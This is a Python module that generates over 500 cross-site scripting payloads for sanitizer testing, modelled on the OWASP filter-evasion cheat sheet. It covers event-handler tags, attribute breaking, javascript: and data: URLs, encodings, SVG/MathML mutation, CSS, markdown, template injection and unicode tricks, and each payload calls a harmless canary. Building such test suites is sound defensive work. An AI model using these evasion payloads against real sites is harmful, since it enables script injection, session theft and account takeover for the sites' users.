"""A generator of XSS payloads for issue 6, after the OWASP XSS filter-evasion cheat sheet.

`payloads(base)` gives at least 500 distinct strings, each tagged with a family. Every payload's
script, if it ever ran, calls the canary `__xss(<id>)` (or `alert(<id>)`, caught as a dialog) with
its own id (`base + index`), so a hit names the payload and, through `base`, the field it was
posted in. The list is deterministic: payload `i` is the same attack for every base.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote

MIN_PAYLOADS = 500


@dataclass(frozen=True)
class Payload:
    id: int
    family: str
    text: str


# A template gets the canary call (JS source, e.g. "__xss(100007)") and the bare id.
Template = Callable[[str, int], str]


def _dec(s: str) -> str:
    return "".join(f"&#{ord(ch)};" for ch in s)


def _dec_padded(s: str) -> str:
    return "".join(f"&#{ord(ch):07d}" for ch in s)


def _hex(s: str) -> str:
    return "".join(f"&#x{ord(ch):x};" for ch in s)


def _pct(s: str) -> str:
    return "".join(f"%{ord(ch):02X}" for ch in s)


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


# Ways to call the canary: plain, through window/top/self, and through eval-like sinks.
def _js_variants(n: int) -> list[str]:
    return [
        f"__xss({n})",
        f"window.__xss({n})",
        f"top['__xss']({n})",
        f"eval('__xss({n})')",
        f"setTimeout('__xss({n})')",
        f"[{n}].map(__xss)",
        f"alert({n})",
    ]


def _tags() -> Iterator[tuple[str, Template]]:
    # Tags with event handlers that fire without user interaction (or on hover/focus).
    tags: list[tuple[str, str]] = [
        ("img", "<img src=x onerror={c}>"),
        ("img", '<img src="x" onerror="{c}">'),
        ("img", "<img src='x' onerror='{c}'>"),
        ("img", "<img/src=x/onerror={c}>"),
        ("img", "<IMG SRC=x OnErRoR={c}>"),
        ("img", "<img\tsrc=x\nonerror={c}>"),
        ("img", "<img src=x onerror\x20=\x20{c}>"),
        ("img", "<img src=`x` onerror=`{c}`>"),
        ("img", '<img src onerror="{c}">'),
        ("img", "<image src=x onerror={c}>"),
        ("svg", "<svg onload={c}>"),
        ("svg", "<svg/onload={c}>"),
        ("svg", '<svg onload="{c}"></svg>'),
        ("body", "<body onload={c}>"),
        ("body", "<body onpageshow={c}>"),
        ("iframe", "<iframe onload={c}></iframe>"),
        ("iframe", "<iframe src=x onload={c}>"),
        ("iframe", '<iframe srcdoc="<img src=x onerror=parent.{c}>"></iframe>'),
        ("object", '<object data=x onerror={c}></object>'),
        ("embed", "<embed src=x onload={c}>"),
        ("details", "<details open ontoggle={c}>"),
        ("details", "<details/open/ontoggle={c}><summary>x</summary></details>"),
        ("video", "<video src=x onerror={c}></video>"),
        ("video", "<video><source onerror={c}></video>"),
        ("audio", "<audio src=x onerror={c}>"),
        ("input", "<input autofocus onfocus={c}>"),
        ("input", "<input type=image src=x onerror={c}>"),
        ("select", "<select autofocus onfocus={c}></select>"),
        ("textarea", "<textarea autofocus onfocus={c}></textarea>"),
        ("marquee", "<marquee onstart={c}>x</marquee>"),
        ("div", '<div onmouseover="{c}" style="position:fixed;inset:0">x</div>'),
        ("a", '<a href=# onclick="{c}" autofocus onfocus="{c}">x</a>'),
        ("style", "<style onload={c}></style>"),
        ("link", "<link rel=stylesheet href=x onerror={c}>"),
        ("script", "<script>{c}</script>"),
        ("script", "<ScRiPt>{c}</sCrIpT>"),
        ("script", "<script type=text/javascript>{c};</script>"),
        ("script", "<script>/*</script>*/{c}</script>"),
        ("script", "<scr<script>ipt>{c}</scr</script>ipt>"),
        ("script", "<<script>{c}//<</script>"),
        ("script", "<script/xss>{c}</script>"),
        ("script", "<script src=data:,{c}></script>"),
        ("script", "<script\x20>{c}</script\x20>"),
        ("form", '<form><button formaction="javascript:{c}">x</button></form>'),
        ("keygen", "<keygen autofocus onfocus={c}>"),
        ("table", "<table background=javascript:{c}>"),
        ("meta", '<meta http-equiv="refresh" content="0;url=javascript:{c}">'),
        ("base", '<base href="javascript:{c}//">'),
        ("xss", "<xss onanimationstart={c} style=animation-name:spin>"),
    ]
    for tag, tpl in tags:
        yield f"tag:{tag}", lambda c, n, tpl=tpl: tpl.format(c=c)


def _js_variety() -> Iterator[tuple[str, Template]]:
    # The most common vectors with every way of calling the canary.
    for i in range(1, 7):  # variant 0, the plain call, is used by every other family
        for tpl in ("<img src=x onerror={c}>", "<svg onload={c}>", "<script>{c}</script>",
                    "<details open ontoggle={c}>", '<a href="javascript:{c}">x</a>',
                    "[x](javascript:{c})"):
            yield "tag:js-variety", lambda c, n, i=i, tpl=tpl: tpl.format(c=_js_variants(n)[i])


def _attribute_breaking() -> Iterator[tuple[str, Template]]:
    breakers = ['">', "'>", "`>", '"/>', "'/>", '">\'>', "]]>", "-->", "*/", "</title>",
                "</textarea>", "</style>", "</script>", "</noscript>", "</select>", "</a>"]
    tails = ["<img src=x onerror={c}>", "<svg/onload={c}>", "<script>{c}</script>"]
    for b in breakers:
        for tail in tails:
            yield "attribute-breaking", lambda c, n, b=b, tail=tail: b + tail.format(c=c)
    inline = ['" onmouseover="{c}" x="', "' onmouseover='{c}' x='", '" autofocus onfocus="{c}',
              "' autofocus onfocus='{c}", "` onmouseover=`{c}`", '" onerror="{c}"',
              '"onmouseover={c}//', "x\" style=\"animation-name:x\" onanimationstart=\"{c}",
              '"><a href="javascript:{c}">x</a>', "'><iframe src=javascript:{c}>"]
    for tpl in inline:
        yield "attribute-breaking", lambda c, n, tpl=tpl: tpl.format(c=c)


def _schemes(c: str, n: int) -> list[tuple[str, str]]:
    js = f"javascript:{c}"
    html_doc = f"<script>alert({n})</script>"
    return [
        ("javascript", js),
        ("mixed-case", f"JaVaScRiPt:{c}"),
        ("upper", f"JAVASCRIPT:{c}"),
        ("leading-space", f" javascript:{c}"),
        ("tab-inside", f"java\tscript:{c}"),
        ("entity-tab", f"java&#x09;script:{c}"),
        ("entity-newline", f"jav&#x0A;ascript:{c}"),
        ("entity-decimal", _dec(js)),
        ("entity-decimal-padded", _dec_padded(js)),
        ("entity-hex", _hex(js)),
        ("entity-colon", f"javascript&colon;{c}"),
        ("percent", _pct("javascript") + ":" + quote(c)),
        ("percent-colon", f"javascript%3A{c}"),
        ("comment-newline", f"javascript://%0a{c}"),
        ("void", f"javascript:void(0);{c}"),
        ("data-html", f"data:text/html,{html_doc}"),
        ("data-html-base64", f"data:text/html;base64,{_b64(html_doc)}"),
        ("data-upper", f"DATA:text/html,{html_doc}"),
        ("data-svg", f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert({n})'/>"),
        ("vbscript", f"vbscript:msgbox({n})"),
        ("vbscript-upper", f"VBScript:alert({n})"),
    ]


def _urls() -> Iterator[tuple[str, Template]]:
    contexts = [
        ("a", '<a href="{u}">x</a>'),
        ("a-unquoted", "<a href={u}>x</a>"),
        ("iframe", '<iframe src="{u}"></iframe>'),
        ("svg-a", '<svg><a xlink:href="{u}"><text y=20>x</text></a></svg>'),
        ("md-link", "[x]({u})"),
        ("md-image", "![x]({u})"),
        ("md-reference", "[x][r{n}]\n\n[r{n}]: {u}"),
        ("md-autolink", "<{u}>"),
    ]
    for i in range(21):
        for ctx, tpl in contexts:
            yield f"url:{ctx}", lambda c, n, i=i, tpl=tpl: tpl.format(u=_schemes(c, n)[i][1], n=n)
    more = [
        '<form action="javascript:{c}"><input type=submit></form>',
        '<object data="javascript:{c}"></object>',
        '<embed src="javascript:{c}">',
        '<math href="javascript:{c}">x</math>',
        '<isindex action="javascript:{c}" type=image>',
        '<button formaction="javascript:{c}">x</button>',
    ]
    for tpl in more:
        yield "url:other", lambda c, n, tpl=tpl: tpl.format(c=c)


def _encodings() -> Iterator[tuple[str, Template]]:
    rows: list[Template] = [
        lambda c, n: f"&lt;script&gt;{c}&lt;/script&gt;",
        lambda c, n: f"&#60;script&#62;{c}&#60;/script&#62;",
        lambda c, n: f"&#x3c;img src=x onerror={c}&#x3e;",
        lambda c, n: f"&amp;lt;img src=x onerror={c}&amp;gt;",
        lambda c, n: f"\\u003cimg src=x onerror={c}\\u003e",
        lambda c, n: f"\\x3cscript\\x3e{c}\\x3c/script\\x3e",
        lambda c, n: f"%3Cscript%3E{c}%3C/script%3E",
        lambda c, n: f"%253Cscript%253E{c}%253C/script%253E",
        lambda c, n: f'<img src=x onerror="{_dec(c)}">',
        lambda c, n: f'<img src=x onerror="{_hex(c)}">',
        lambda c, n: f"<img src=x onerror={_dec_padded(c)}>",
        lambda c, n: f"<a href=\"&#x6A;avascript:{c}\">x</a>",
        lambda c, n: f"<img src=x onerror=eval(atob('{_b64(c)}'))>",
        lambda c, n: f"<img src=x onerror=\"eval('\\x5f\\x5fxss({n})')\">",
        lambda c, n: f"<img src=x onerror=\"eval('\\u005f\\u005fxss({n})')\">",
        lambda c, n: f"<img src=x onerror=eval(String.fromCharCode({','.join(str(ord(ch)) for ch in c)}))>",
        lambda c, n: f"<svg><script>&#95;&#95;xss({n})</script></svg>",
        lambda c, n: f"<svg><script>{_hex(c)}</script></svg>",
        lambda c, n: f"+ADw-script+AD4-{c}+ADw-/script+AD4-",
        lambda c, n: f"&lt;img src=x onerror=&quot;{c}&quot;&gt;",
    ]
    for tpl in rows:
        yield "encoding", tpl


def _svg_mathml() -> Iterator[tuple[str, Template]]:
    rows = [
        "<svg><script>{c}</script></svg>",
        "<svg><script xlink:href=data:,{c}></script></svg>",
        "<svg><animate onbegin={c} attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to={c}>",
        "<svg><animate attributeName=href values=javascript:{c} /><a><text y=20>x</text></a></svg>",
        "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>",
        "<svg><desc><img src=x onerror={c}></desc></svg>",
        "<svg><title><img src=x onerror={c}></title></svg>",
        "<svg><style><img src=x onerror={c}></style></svg>",
        "<svg><image href=x onerror={c} />",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert({n})'/></svg>#x\"/>",
        "<svg></p><style><a id=\"</style><img src=1 onerror={c}>\">",
        "<svg><![CDATA[><img src=x onerror={c}>]]></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror={c}>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror={c}&gt;\">",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror={c}>\"></style></h1>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
        "<math><mi xlink:href=\"javascript:{c}\">x</mi></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:{c}>x</maction></math>",
        "<math><style><img src=x onerror={c}></style></math>",
        "<noscript><p title=\"</noscript><img src=x onerror={c}>\">",
        "<template><img src=x onerror={c}></template>",
        "<svg><a href=\"javascript:{c}\"><circle r=100 /></a></svg>",
        "<svg><discard onbegin={c}>",
        "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{c}</handler></svg>",
    ]
    for tpl in rows:
        yield "svg-mathml", lambda c, n, tpl=tpl: tpl.format(c=c, n=n)


def _css() -> Iterator[tuple[str, Template]]:
    rows = [
        '<div style="background:url(javascript:{c})">x</div>',
        "<div style=\"background-image:url('javascript:{c}')\">x</div>",
        '<div style="width:expression({c})">x</div>',
        '<div style="x:\\65 xpression({c})">x</div>',
        '<div style="behavior:url(x.htc);-moz-binding:url(javascript:{c})">x</div>',
        "<style>@import 'javascript:{c}';</style>",
        "<style>@import url(\"data:text/css,*{{background:url(javascript:{c})}}\");</style>",
        "<style>*{{background:url(\"javascript:{c}\")}}</style>",
        "<style>@keyframes x{{}}</style><div style=\"animation-name:x\" onanimationstart=\"{c}\">x</div>",
        "<style>li{{list-style-image:url(\"javascript:{c}\")}}</style><ul><li>x</li></ul>",
        "<link rel=stylesheet href=\"javascript:{c}\">",
        "<p style=\"font-family:'\\22\\3e\\3cimg src=x onerror={c}\\3e'\">x</p>",
        "<style>body{{background:url(x)}}</style><img src=x onerror={c}>",
        "<span style=\"-o-link:'javascript:{c}';-o-link-source:current\">x</span>",
        "<style></style><style>@import'//0';</style><img src=x onerror={c}>",
    ]
    for tpl in rows:
        yield "css", lambda c, n, tpl=tpl: tpl.format(c=c)


def _broken_markup() -> Iterator[tuple[str, Template]]:
    rows = [
        "<img src=x onerror={c}",
        "<img src=x onerror={c} //",
        "<<img src=x onerror={c}>>",
        '<img """><script>{c}</script>">',
        "<iframe src=javascript:{c} <",
        '<a href="javascript:{c}',
        "<script>{c}",
        "<svg/onload={c}",
        "</script><script>{c}</script>",
        "<b <script>{c}</script>0",
        "<img src=x onerror={c}//<",
        "<a <img src=x onerror={c}>>x</a>",
        "<div/onmouseover='{c}' style=position:fixed;inset:0>x",
        "<img src=x:x onerror=\"{c}\"/",
        "<img src=x onerror={c} <b>",
        "<</p>img src=x onerror={c}>",
        "<p <img src=x onerror={c}>>",
        "<img src=\"x` `<script>{c}</script>\"` `>",
        "<svg><p><style><img src=x onerror={c}></p></svg>",
        "<body><p><svg onload={c}></p>",
        "<table><td><img src=x onerror={c}></td>",
        "<select><img src=x onerror={c}></select>",
        "<textarea></textarea><img src=x onerror={c}>",
        "<title><img src=x onerror={c}></title>",
        "<xmp><img src=x onerror={c}></xmp>",
        "<plaintext><img src=x onerror={c}>",
    ]
    for tpl in rows:
        yield "broken-markup", lambda c, n, tpl=tpl: tpl.format(c=c)


def _comments_cdata() -> Iterator[tuple[str, Template]]:
    rows = [
        "<!--<img src=x onerror={c}>-->",
        "<!-- --!><img src=x onerror={c}>-->",
        "<!--><img src=x onerror={c}>-->",
        "<!---><img src=x onerror={c}>-->",
        "<![CDATA[<img src=x onerror={c}>]]>",
        "<![CDATA[]]><script>{c}</script>",
        "<!--[if gte IE 4]><script>{c}</script><![endif]-->",
        "<? ><img src=x onerror={c}>?>",
        "<!DOCTYPE x><img src=x onerror={c}>",
        "<!x><img src=x onerror={c}>",
        "<!-- <a title=\"--><img src=x onerror={c}>\">",
        "<%<!--'%><script>{c};//--%>",
        "<comment><img src=x onerror={c}></comment>",
        "</x><!--><img src=x onerror={c}>",
        "<!--\n--><img src=x onerror={c}>",
    ]
    for tpl in rows:
        yield "comment-cdata", lambda c, n, tpl=tpl: tpl.format(c=c)


def _markdown() -> Iterator[tuple[str, Template]]:
    rows = [
        "[x](<javascript:{c}>)",
        "[x]( javascript:{c} )",
        '[x](javascript:{c} "title")',
        "[x](javascript&#58;{c})",
        "[x](&#x6A;avascript:{c})",
        "[x](javas&#99;ript:{c})",
        "[x](javascript\\:{c})",
        "[x](\njavascript:{c})",
        "[x](java\u200bscript:{c})",
        "[x](javascript:{c}\\))",
        '![x"onerror="{c}](x)',
        '![x](x"onerror="{c})',
        "![x](x onerror={c})",
        "![<img src=x onerror={c}>](http://example.com/a.png)",
        "[x][1]\n\n[1]: javascript:{c}",
        "[x]\n\n[x]: javascript:{c}",
        "[x]\n\n[x]: <javascript:{c}>",
        '[x]\n\n[x]: http://example.com/ "\\"><img src=x onerror={c}>"',
        "<JAVASCRIPT:{c}>",
        "<javascript:{c}//http://a>",
        "[[x](javascript:{c})](http://example.com)",
        "[x](http://example.com)(javascript:{c})",
        "[![x](javascript:{c})](javascript:{c})",
        "[x]: javascript:{c}\n[x]",
        "`<script>{c}</script>`",
        "``<img src=x onerror={c}>``",
        "```html\n<img src=x onerror={c}>\n```",
        "    <img src=x onerror={c}>",
        "> <img src=x onerror={c}>",
        "* <svg onload={c}>",
        "1. <details open ontoggle={c}>",
        "**<img src=x onerror={c}>**",
        "_<img src=x onerror={c}>_",
        "~~<img src=x onerror={c}>~~",
        "\\<img src=x onerror={c}>",
        '[x](http://example.com "onmouseover={c}")',
        "[x](http://example.com'onmouseover='{c}')",
        '[x](http://example.com"onmouseover="{c}")',
        "[<img src=x onerror={c}>](http://example.com)",
        '[x](http://example.com/"><img src=x onerror={c}>)',
        "www.example.com/\"onmouseover=\"{c}",
        "http://example.com/<img src=x onerror={c}>",
        'http://example.com/"onmouseover="{c}"',
        "javascript:{c}",
        "<http://example.com/\"><img src=x onerror={c}>>",
        "<mailto:a@b.c?\"><img src=x onerror={c}>>",
        "[x](mailto:\"><img src=x onerror={c}>)",
        "[x](data:text/html;base64,{b64})",
        "# <img src=x onerror={c}>",
        "x\n===\n<img src=x onerror={c}>",
        "| a |\n|---|\n| <img src=x onerror={c}> |",
        "[x](javascript:{c})\n[x](javascript:{c})",
    ]
    for tpl in rows:
        yield "markdown", lambda c, n, tpl=tpl: tpl.format(
            c=c, b64=_b64(f"<script>alert({n})</script>"))


def _templates() -> Iterator[tuple[str, Template]]:
    # Literal braces here: "@C@" is replaced by the canary call.
    rows = [
        "{{constructor.constructor('@C@')()}}",
        "{{$on.constructor('@C@')()}}",
        "{{toString.constructor('@C@')()}}",
        "{{[].pop.constructor('@C@')()}}",
        "{{_c.constructor('@C@')()}}",
        "{{$eval.constructor('@C@')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };@C@//');}}",
        "${@C@}",
        "${ @C@ }",
        "`${@C@}`",
        "#{@C@}",
        "<%= @C@ %>",
        "{{= @C@ }}",
        "[[@C@]]",
        "{{{@C@}}}",
        "{% @C@ %}",
        "@(@C@)",
        "<div v-html=\"'<img src=x onerror=@C@>'\"></div>",
        "<div ng-app ng-csp><input autofocus ng-focus=\"$event.view.@C@\"></div>",
        "<div x-data x-init=\"@C@\"></div>",
        "{{constructor.constructor('@C@')()}}<img src=x onerror=@C@>",
        "<div data-bind=\"html:'<img src=x onerror=@C@>'\"></div>",
    ]
    for tpl in rows:
        yield "template-injection", lambda c, n, tpl=tpl: tpl.replace("@C@", c)


def _unicode() -> Iterator[tuple[str, Template]]:
    rows = [
        "\u202e<img src=x onerror={c}>",
        "<img src=x \u202eonerror={c}>",
        "\u2066<script>{c}</script>\u2069",
        "<scr\u200bipt>{c}</script>",
        "<img src=x on\u200derror={c}>",
        "<\u200bimg src=x onerror={c}>",
        "\ufeff<script>{c}</script>",
        "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
        "\uff1cimg src=x onerror={c}\uff1e",
        "\ufe64script\ufe65{c}\ufe64/script\ufe65",
        "\u3008script\u3009{c}\u3008/script\u3009",
        "\u02c2script\u02c3{c}\u02c2/script\u02c3",
        "<\u017fcript>{c}</\u017fcript>",
        "<\u0131mg src=x onerror={c}>",
        "<img src=x onerror={c}\u2028>",
        "<a href=\"java\u2028script:{c}\">x</a>",
        "<a href=\"\u00a0javascript:{c}\">x</a>",
        "<a href=\"\u3000javascript:{c}\">x</a>",
        "[x](\u00a0javascript:{c})",
        "[x](\uff4aavascript:{c})",
        "<\u0338img src=x onerror={c}>",
        "<img src=x onerror=\"\u200b{c}\">",
        "\u00bcscript\u00be{c}\u00bc/script\u00be",
        "<script\u3000>{c}</script>",
        "\U000e003cscript\U000e003e{c}",
    ]
    for tpl in rows:
        yield "unicode", lambda c, n, tpl=tpl: tpl.format(c=c)


FAMILIES = (_tags, _js_variety, _attribute_breaking, _urls, _encodings, _svg_mathml, _css,
            _broken_markup, _comments_cdata, _markdown, _templates, _unicode)


def _templates_all() -> list[tuple[str, Template]]:
    return [row for family in FAMILIES for row in family()]


def payloads(base: int = 100_000) -> list[Payload]:
    """All payloads, each distinct; payload i has canary id base + i.

    Two templates that make the same attack (the id aside) count once: the first one stays.
    """
    out: list[Payload] = []
    seen: set[str] = set()
    for family, tpl in _templates_all():
        n = base + len(out)
        text = tpl(f"__xss({n})", n)
        shape = text.replace(str(n), "#")
        if shape in seen:
            continue
        seen.add(shape)
        out.append(Payload(id=n, family=family, text=text))
    if len(out) < MIN_PAYLOADS:
        raise ValueError(f"only {len(out)} payloads, need {MIN_PAYLOADS}")
    return out


def families(items: list[Payload]) -> dict[str, int]:
    counts: dict[str, int] = {}
    for p in items:
        key = p.family.split(":")[0]
        counts[key] = counts.get(key, 0) + 1
    return counts


if __name__ == "__main__":
    items = payloads()
    print(len(items), families(items))
